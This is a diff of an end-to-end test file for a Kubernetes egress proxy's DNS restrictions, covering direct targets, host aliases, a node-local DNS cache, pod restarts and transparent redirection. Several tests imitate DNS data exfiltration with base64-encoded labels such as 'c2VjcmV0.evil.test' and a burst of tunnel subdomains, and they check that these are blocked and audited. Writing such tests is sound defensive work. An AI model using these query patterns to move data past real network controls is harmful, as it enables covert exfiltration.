@@ -4,6 +4,7 @@ import { podManifest } from '../../scripts/scenario/stage.ts';
 import {
   apply,
   condition,
+  echo,
   eventually,
   inPod,
   kubectl,
@@ -12,11 +13,15 @@ import {
   makeProxy,
   removeNamespaces,
 } from './support/client-pods.ts';
+import { CACHE, removeNodeLocalDns, startNodeLocalDns } from './support/node-local-dns.ts';
+import { podsOf } from './support/own-proxy.ts';
 
 const PROXY = { namespace: 'closed-dns-proxy', name: 'closed' };
 /** Enforced; in observe mode; both with dns: ClusterOnly. */
 const [CLOSED, WATCHED] = ['closed-dns', 'closed-dns-watched'];
 const POD = `${CLOSED}/api`;
+/** The host of a direct target. */
+const DIRECT = 'direct.example.com';
 
 const query = readFileSync(new URL('support/dns-query.py', import.meta.url), 'utf8');
 
@@ -30,9 +35,39 @@ const nameservers = async (pod: string) =>
   (await inPod(pod, "sed -n 's/^nameserver //p' /etc/resolv.conf")).stdout.trim().split('\n');
 const resolves = async (pod: string, name: string) => (await inPod(pod, `getent hosts ${name}`)).code === 0;
 
+const podObject = (name: string) =>
+  kubectl('create -f - --dry-run=client -o json', podManifest(CLOSED, name));
+
+/**
+ * Asks the server for a name of the cluster, over UDP and TCP in turn, until the file exists in the pod. Each query is sent
+ * once, from a port of its own. Resolves with JSON: how many were answered, and how the others failed.
+ */
+async function askUntil(file: string, server: string): Promise<string> {
+  const script = `
+import json, os, socket, struct, time
+name = b"".join(bytes([len(l)]) + l.encode() for l in "kubernetes.default.svc.cluster.local".split(".")) + bytes(1)
+message = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
+answered, failed = 0, []
+while not os.path.exists("${file}"):
+  tcp = (answered + len(failed)) % 2 == 1
+  try:
+    with socket.socket(socket.AF_INET6 if ":" in "${server}" else socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
+      s.settimeout(20)
+      s.connect(("${server}", 53))
+      s.sendall(struct.pack(">H", len(message)) + message if tcp else message)
+      answer = s.recv(4096)[2 if tcp else 0:]
+      assert answer[:2] == message[:2] and answer[3] & 15 == 0 and answer[6:8] != bytes(2), answer
+    answered += 1
+  except Exception as error: failed.append(("TCP " if tcp else "UDP ") + repr(error))
+  time.sleep(0.02)
+print(json.dumps({"answered": answered, "failed": failed}))`;
+  const { stdout, stderr } = await inPod(POD, `python3 - <<'END'\n${script}\nEND`, 280);
+  return stdout.trim() || stderr;
+}
+
 /** The audit lines about names of a namespace. */
 async function askedNames(namespace: string): Promise<{ target: string; queries: number; pod: string }[]> {
-  const lines = await kubectl(`logs -n ${PROXY.namespace} deployment/${PROXY.name} -c agent`);
+  const lines = await kubectl(`logs -n ${PROXY.namespace} -l app=${PROXY.name} -c agent --tail=-1`);
   return lines
     .split('\n')
     .filter((line) => line.includes('"method":"DNS"'))
@@ -41,7 +76,8 @@ async function askedNames(namespace: string): Promise<{ target: string; queries:
 }
 
 beforeAll(async () => {
-  await makeProxy(PROXY, { dns: 'ClusterOnly', dnsAllow: ['*.example.org'] });
+  const directTargets = { policy: 'Allow', cidrs: ['203.0.113.0/24'], ports: [5432] };
+  await makeProxy(PROXY, { replicas: 2, dns: 'ClusterOnly', dnsAllow: ['*.example.org'], directTargets });
   await removeNamespaces(CLOSED, WATCHED);
   await makeNamespace({ namespace: CLOSED, mode: 'enforce' });
   await makeNamespace({ namespace: WATCHED, mode: 'observe' });
@@ -58,11 +94,12 @@ beforeAll(async () => {
     apiVersion: 'zalando.org/v1',
     kind: 'EgressRuleSet',
     metadata: { name: 'rules', namespace: CLOSED },
-    spec: { targets: ['a.example.com:80'] },
+    spec: { targets: ['a.example.com:80'], directTargets: [{ host: DIRECT, port: 5432 }] },
   });
   await kubectl(`wait -n ${CLOSED} --for=condition=Programmed egressruleset/rules --timeout=30s`);
 });
 afterAll(async () => {
+  await removeNodeLocalDns();
   await leaveNamespaces(CLOSED, WATCHED, PROXY.namespace);
 });
 
@@ -137,14 +174,59 @@ describe('dns: ClusterOnly', () => {
     expect(await ask(POD, server, 'a.example.org')).toMatch(/^NOERROR 1/);
   });
 
+  test('the host of a direct target is resolved, and connected to past the proxy; a name beside it is not', async () => {
+    expect(await eventually(() => echo(POD, 'TCP', DIRECT, 5432), 'echo', 60)).toBe('echo');
+    expect(await resolves(POD, `c2VjcmV0.${DIRECT}`)).toBe(false);
+    expect(await resolves(POD, 'other.example.com')).toBe(false);
+  });
+
+  test('a pod keeps its host aliases', async () => {
+    const aliased = JSON.parse(await podObject('aliased'));
+    aliased.spec.hostAliases = [{ ip: '192.0.2.7', hostnames: ['alias.example.net'] }];
+    await kubectl('apply -f -', JSON.stringify(aliased));
+    await kubectl(`wait -n ${CLOSED} --for=condition=Ready pod/aliased --timeout=60s`);
+    const { stdout } = await inPod(`${CLOSED}/aliased`, 'getent hosts alias.example.net');
+    expect(stdout).toMatch(/^192\.0\.2\.7 /);
+    expect(await resolves(`${CLOSED}/aliased`, 'kubernetes.default')).toBe(true);
+    expect(await resolves(`${CLOSED}/aliased`, 'other.example.net')).toBe(false);
+  });
+
+  test('the cache of NodeLocal DNSCache is closed too, and is that of others', async () => {
+    await startNodeLocalDns();
+    const cached = (pod: string, protocol: string) => ask(pod, CACHE, 'c2VjcmV0.evil.test', 'A', protocol);
+    for (const protocol of ['udp', 'tcp']) {
+      const open = async () => (await cached(`${WATCHED}/api`, protocol)).split(' ')[0];
+      expect(await eventually(open, 'NOERROR', 60)).toBe('NOERROR');
+      expect(await cached(POD, protocol)).toBe('silent');
+    }
+    expect(await resolves(POD, 'kubernetes.default')).toBe(true);
+  });
+
+  test('no query is without an answer while one proxy pod of two goes, and then the other one', async () => {
+    const [server = ''] = await nameservers(POD);
+    const asked = askUntil('/tmp/enough', server);
+    for (const pod of await podsOf(PROXY)) {
+      await kubectl(`delete pod -n ${PROXY.namespace} ${pod} --timeout=120s`, '', 130);
+      await kubectl(`rollout status -n ${PROXY.namespace} deployment/${PROXY.name} --timeout=120s`, '', 130);
+    }
+    await inPod(POD, 'touch /tmp/enough');
+    const { answered, failed } = JSON.parse(await asked);
+    expect(failed).toEqual([]);
+    expect(answered).toBeGreaterThan(50);
+  }, 300_000);
+
   test('a tunnel shows as one target with its queries, by the pod', async () => {
     const many = `for i in $(seq 60); do echo $i.t.tunnel.test; done`;
     await inPod(POD, `for name in $(${many}); do getent ahosts $name > /dev/null; done`, 60);
     const seen = async () =>
       (await askedNames(CLOSED)).some(({ target, pod }) => target === '*.tunnel.test:53' && pod === 'api');
     expect(await eventually(seen, true, 30)).toBe(true);
-    const queries = (await askedNames(CLOSED)).filter(({ target }) => target.includes('tunnel.test'));
-    expect(queries.reduce((sum, one) => sum + one.queries, 0)).toBeGreaterThanOrEqual(60);
+    // Each pod of the proxy writes what it was asked at its own time.
+    const isCounted = async () => {
+      const records = (await askedNames(CLOSED)).filter(({ target }) => target.includes('tunnel.test'));
+      return records.reduce((sum, { queries }) => sum + queries, 0) >= 60;
+    };
+    expect(await eventually(isCounted, true, 60)).toBe(true);
     expect(await condition(CLOSED, 'egressactivity/observed', 'NameserverUsed')).toBe('True NameserverUsed');
   });
 });
@@ -155,5 +237,29 @@ describe('observe mode', () => {
     const seen = async () =>
       (await askedNames(WATCHED)).some(({ target }) => target === 'c2vjcmv0.evil.test:53');
     expect(await eventually(seen, true, 30)).toBe(true);
+  });
+});
+
+describe('transparent mode', () => {
+  test('redirects a program without a proxy to it by one address for every name, and answers nothing else', async () => {
+    const proxy = `-n ${PROXY.namespace} egressproxy/${PROXY.name}`;
+    await kubectl(`patch ${proxy} --type=merge -p '{"spec":{"clientEnv":{"transparent":true}}}'`);
+    const injected = () =>
+      kubectl(
+        `run seen -n ${CLOSED} --image=x --dry-run=server -o jsonpath='{.spec.initContainers[0].name}'`,
+      );
+    expect(await eventually(injected, 'kube-egress-forward', 60)).toBe('kube-egress-forward');
+    await kubectl('apply -f -', podManifest(CLOSED, 'redirected'));
+    await kubectl(`wait -n ${CLOSED} --for=condition=Ready pod/redirected --timeout=90s`);
+    const pod = `${CLOSED}/redirected`;
+    const curl = async (host: string) =>
+      (await inPod(pod, `curl --noproxy '*' -s -o /dev/null -m 20 -w '%{http_code}' http://${host}/`)).stdout;
+    expect(await eventually(() => curl('a.example.com'), '200')).toBe('200');
+    expect(await curl('other.example.com')).toBe('403');
+    const { stdout } = await inPod(pod, 'getent ahostsv4 c2VjcmV0.evil.test');
+    expect(stdout).toMatch(/^198\.18\.0\.1 /);
+    const [server = ''] = await nameservers(pod);
+    expect(await ask(pod, server, 'c2VjcmV0.evil.test', 'TXT')).toMatch(/^NOERROR 0/);
+    expect(await resolves(pod, 'kubernetes.default')).toBe(true);
   });
 });
